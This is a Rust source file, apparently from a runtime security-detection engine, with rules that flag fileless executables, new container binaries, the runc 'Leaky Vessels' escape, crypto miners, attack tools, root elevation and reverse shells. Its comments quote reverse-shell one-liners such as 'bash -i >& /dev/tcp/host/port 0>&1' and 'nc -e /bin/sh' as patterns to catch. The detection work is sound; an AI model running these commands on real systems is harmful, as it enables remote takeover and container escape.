//! What a new program is, and who started it: new binaries in containers,
//! fileless executables, miners, attack tools, elevation to root, and shells
//! that are reverse shells or were spawned by a network service.

use super::tables::{
    INTERACTIVE_PARENTS, INTERACTIVE_SETUID, JIT_RUNTIMES, MINER_ARGS, MINERS, SHELL_LAUNCHERS, USUAL_SETUID, applet,
    is_shell, tool_named,
};
use super::{Hit, RuleCtx, basename, command_line, executable_name, parent_name, program_name, succeeded};
use crate::catalog::FindingType as T;
use saker_model::{Event, Kind};
use serde_json::json;

pub(super) fn on_exec(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    if !succeeded(ev) {
        return;
    }
    let exe = x.executable.as_deref().unwrap_or("");
    let name = program_name(ev);

    if x.memfd || x.deleted {
        fileless(ev, exe, name, hits);
    } else if let Some(c) = &ev.container {
        new_binary(ev, &c.id, exe, cx, hits);
    }
    runc_cwd_escape(ev, hits);
    miner(ev, name, hits);
    tool(ev, name, cx, hits);
    elevation(ev, name, hits);
    if let Some(shell) = shell_name(ev) {
        shell_spawned_by_service(ev, shell, cx, hits);
    }
    socket_shell(ev, cx, hits);
}

/// A shell started with its standard input and output on an inet socket
/// that it (before exec) or its parent connected out: `nc -e /bin/sh`,
/// `socat exec:sh`, a dup2-then-exec payload.
fn socket_shell(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let (Some(x), Some(p)) = (ev.exec(), &ev.process) else { return };
    if !(x.stdin_socket && x.stdout_socket) {
        return;
    }
    let Some(peer) = &x.stdin_peer else { return };
    let (Some(addr), Some(port)) = (&peer.remote_address, peer.remote_port) else { return };
    let (name, argv) = applet(executable_name(ev), &x.argv);
    if !runs_shell(name, argv) {
        return;
    }
    let target = Some((addr.clone(), port));
    let mut connected_out = false;
    let mut serves = false;
    for uuid in [Some(p.uuid), p.parent_uuid].into_iter().flatten() {
        if let Some(f) = cx.state.proc(&uuid) {
            connected_out |= f.connected_to == target;
            serves |= f.network_service;
        }
    }
    // An accepted connection handed to a shell (inetd-style services) is not
    // a reverse shell; a connection made outwards is, and so is one we have
    // no record of when nobody in the pair serves the network.
    if connected_out || (!serves && interactive(argv)) {
        hits.push(reverse_shell(addr, port, &peer.family, &x.argv));
    }
}

/// An executable that exists only in memory, or no longer on disk.
fn fileless(ev: &Event, exe: &str, name: &str, hits: &mut Vec<Hit>) {
    // runc re-executes a sealed memfd copy of itself on every container start
    // (its CVE-2019-5736 fix); JIT runtimes may do the same.
    if exe.contains("runc_cloned") || JIT_RUNTIMES.contains(&name) {
        return;
    }
    let Some(x) = ev.exec() else { return };
    let how = if x.memfd { "memfd" } else { "deleted" };
    hits.push(
        Hit::new(T::FilelessExecution, exe)
            .ctx("executablePath", exe)
            .ctx("filelessKind", how)
            .ctx("commandLineExample", command_line(&x.argv)),
    );
}

/// A file created or modified in the container after it started, executed.
fn new_binary(ev: &Event, container: &str, exe: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    let started = cx.state.container_seen(container, ev.time);
    // The ctime cannot be backdated (`touch -d` sets the mtime and so moves
    // the ctime to now); the mtime is kept for kernels where only it is read.
    let (mtime, ctime) = (x.executable_mtime, x.executable_ctime);
    let after_start = |t: Option<chrono::DateTime<chrono::Utc>>| t.is_some_and(|t| t > started);
    if !(x.upper_layer || after_start(ctime) || after_start(mtime)) {
        return;
    }
    let mut hit = Hit::new(T::NewBinaryExecuted, exe).ctx("executablePath", exe);
    match cx.state.modification(container, exe) {
        Some(m) => {
            hit = hit
                .ctx("modifyingProcess", crate::engine::runtime_process_json(&m.process))
                .ctx("modifiedAt", m.at.to_rfc3339());
        }
        None => {
            // The later of the two: the last change the file shows.
            if let Some(m) = mtime.max(ctime) {
                hit = hit.ctx("modifiedAt", m.to_rfc3339());
            }
        }
    }
    hits.push(hit);
}

/// CVE-2024-21626 ("Leaky Vessels"): runc before 1.1.12 leaked a host
/// directory fd into the container, and `runc exec --cwd /proc/self/fd/N`
/// (or an image's `WORKDIR /proc/self/fd/N`) left the container process with
/// a host directory as its working directory, from where `../../..` is the
/// host's filesystem. The kernel tells it directly (the cwd is not below the
/// process's root); the `/proc/.../fd/` text is how the request looks.
fn runc_cwd_escape(ev: &Event, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    if ev.container.is_none() {
        return;
    }
    let Some(cwd) = x.cwd.as_deref() else { return };
    if !(x.cwd_outside_root || under_proc_fd(cwd)) {
        return;
    }
    hits.push(
        Hit::new(T::RuncContainerEscape, cwd)
            .ctx("workingDirectory", cwd)
            .ctx("commandLineExample", command_line(&x.argv)),
    );
}

/// `/proc/self/fd/N...`, `/proc/thread-self/fd/N...`, `/proc/<pid>/fd/N...`:
/// a path through a process's open file descriptors.
fn under_proc_fd(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("/proc/") else { return false };
    let Some((who, rest)) = rest.split_once('/') else { return false };
    let process = who == "self" || who == "thread-self" || (!who.is_empty() && who.bytes().all(|b| b.is_ascii_digit()));
    process && rest.starts_with("fd/")
}

fn miner(ev: &Event, name: &str, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    let by_name = MINERS.iter().any(|m| m.eq_ignore_ascii_case(name));
    let by_args = x.argv.iter().any(|a| MINER_ARGS.iter().any(|m| a.contains(m)));
    if by_name || by_args {
        let exe = x.executable.as_deref().unwrap_or(name);
        hits.push(Hit::new(T::CryptoMinerExecuted, exe).ctx("commandLineExample", command_line(&x.argv)));
    }
}

/// Attack tools by name (the program, or the script an interpreter runs).
fn tool(ev: &Event, name: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    let script = x.script.as_deref().map(basename);
    let Some(t) = tool_named(name).or_else(|| script.and_then(tool_named)) else { return };
    let severity = if t.offensive {
        8.0
    } else {
        // Dual-use tools are an admin's daily bread on the host: only report
        // them where they are unusual — in a container, or not started from
        // a person's shell.
        let from_person = ev.container.is_none() && INTERACTIVE_PARENTS.contains(&parent_name(ev));
        if from_person && !parent_is_service(ev, cx) {
            return;
        }
        2.0
    };
    hits.push(
        Hit::new(T::SuspiciousTool, t.name)
            .severity(severity)
            .ctx("toolName", t.name)
            .ctx("toolCategory", t.category)
            .ctx("commandLineExample", command_line(&x.argv)),
    );
}

/// Root gained through a set-user-id binary that is not normally used so.
fn elevation(ev: &Event, name: &str, hits: &mut Vec<Hit>) {
    let Some(x) = ev.exec() else { return };
    let (Some(prev), Some(p)) = (x.previous, &ev.process) else { return };
    if !x.setuid || prev.euid == 0 || p.euid != 0 {
        return;
    }
    if USUAL_SETUID.contains(&name) {
        let person = INTERACTIVE_PARENTS.contains(&parent_name(ev));
        if !INTERACTIVE_SETUID.contains(&name) || person {
            return;
        }
    }
    let exe = x.executable.as_deref().unwrap_or(name);
    hits.push(
        Hit::new(T::ElevationToRoot, exe)
            .ctx("executablePath", exe)
            .ctx("previousUid", prev.uid)
            .ctx("previousEuid", prev.euid),
    );
}

/// The shell this exec starts, if it is an interactive one: a shell with no
/// `-c` command, or with `-i`.
pub(super) fn shell_name(ev: &Event) -> Option<&str> {
    let x = ev.exec()?;
    let (name, argv) = applet(executable_name(ev), &x.argv);
    let shell = shell_of(name, argv)?;
    interactive(argv).then_some(shell)
}

/// The shell a program with this argv is: by name, or by argv[0] (login
/// shells are "-bash"; `exec -a sh` renames).
fn shell_of<'a>(name: &'a str, argv: &'a [String]) -> Option<&'a str> {
    let argv0 = argv.first().map(|a| basename(a).trim_start_matches('-')).unwrap_or("");
    [name, argv0].into_iter().find(|n| is_shell(n))
}

fn runs_shell(name: &str, argv: &[String]) -> bool {
    shell_of(name, argv).is_some()
}

fn interactive(argv: &[String]) -> bool {
    for a in argv.iter().skip(1) {
        match a.strip_prefix('-') {
            Some(long) if long.starts_with('-') => continue, // --login, --norc
            Some(short) if short.contains('i') => return true,
            Some(short) if short.contains('c') => return false, // runs one command
            Some(_) => continue,
            None => return false, // runs a script
        }
    }
    true
}

fn parent_is_service(ev: &Event, cx: &mut RuleCtx<'_>) -> bool {
    ev.process
        .as_ref()
        .and_then(|p| p.parent_uuid)
        .and_then(|u| cx.state.proc(&u).map(|f| f.network_service))
        .unwrap_or(false)
}

/// An interactive shell whose parent serves the network (it listened or
/// accepted): an exploited service handing out a prompt.
fn shell_spawned_by_service(ev: &Event, shell: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let parent = parent_name(ev);
    if SHELL_LAUNCHERS.contains(&parent) || is_shell(parent) || !parent_is_service(ev, cx) {
        return;
    }
    let key = format!("{parent}>{shell}");
    hits.push(Hit::new(T::SuspiciousShellCreated, key).ctx("shellName", shell).ctx("parentName", parent));
}

/// Network events: remember services and outbound connections; a shell
/// connecting out and keeping a prompt is a reverse shell
/// (`bash -i >& /dev/tcp/host/port 0>&1`).
pub(super) fn on_net(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
    let (Some(p), Some(n)) = (&ev.process, ev.net()) else { return };
    if !succeeded(ev) && ev.result != Some(-115) {
        return;
    }
    match ev.kind {
        Kind::NetListen | Kind::NetAccept => cx.state.proc_mut(p.uuid).network_service = true,
        Kind::NetConnect if n.family != "unix" => {
            let (Some(addr), Some(port)) = (&n.remote_address, n.remote_port) else { return };
            cx.state.proc_mut(p.uuid).connected_to = Some((addr.clone(), port));
            let exe = p.executable.as_deref().map(basename).unwrap_or(&p.name);
            let (name, argv) = applet(exe, &p.argv);
            if runs_shell(name, argv) && n.protocol.as_deref() == Some("tcp") && interactive(argv) {
                hits.push(reverse_shell(addr, port, &n.family, &p.argv));
            }
        }
        _ => {}
    }
}

pub(super) fn reverse_shell(addr: &str, port: u16, family: &str, argv: &[String]) -> Hit {
    let mut hit = Hit::new(T::ReverseShell, format!("{addr}:{port}"))
        .ctx("addressFamily", if family == "inet6" { "AF_INET6" } else { "AF_INET" })
        .ctx("ianaProtocolNumber", 6)
        .ctx("commandLineExample", command_line(argv));
    hit.action = Some(json!({
        "actionType": "NETWORK_CONNECTION",
        "networkConnectionAction": {
            "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
            "remoteIpDetails": { if family == "inet6" { "ipAddressV6" } else { "ipAddressV4" }: addr },
            "remotePortDetails": { "port": port },
        }
    }));
    hit
}
